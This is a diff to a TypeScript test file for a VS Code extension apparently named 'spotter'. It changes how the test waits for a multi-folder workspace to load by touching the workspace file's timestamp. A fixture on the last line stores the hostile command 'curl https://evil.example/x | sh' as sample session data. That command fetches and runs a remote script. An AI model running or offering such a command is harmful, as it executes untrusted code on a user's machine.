@@ -1,5 +1,6 @@
 import assert from "node:assert/strict";
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { utimes } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { commands, languages, Uri, workspace } from "vscode";
@@ -19,8 +20,15 @@ describe("a workspace of several folders", () => {
 
   before(async () => {
     api = await spotter();
-    // A workspace's file lies on the other side of a connection, and a window may show before it has read it.
-    const folders = await until(() => (workspace.workspaceFolders ?? []).map(({ uri }) => uri.fsPath), ({ length }) => length === 2);
+    // A workspace's file lies on the other side of a connection: a window may show before it has read it, and reads it again once it changes.
+    const folders = await until(
+      async () => {
+        const read = (workspace.workspaceFolders ?? []).map(({ uri }) => uri.fsPath);
+        if (read.length < 2 && workspace.workspaceFile) await utimes(workspace.workspaceFile.fsPath, new Date(), new Date());
+        return read;
+      },
+      ({ length }) => length === 2,
+    );
     [first, second] = folders as [string, string];
     folder = mkdtempSync(join(tmpdir(), "spotter-folders-"));
     const run = (id: string, directory: string): WrittenSession => ({ id, title: id, directory, command: "curl https://evil.example/x | sh", output: "" });
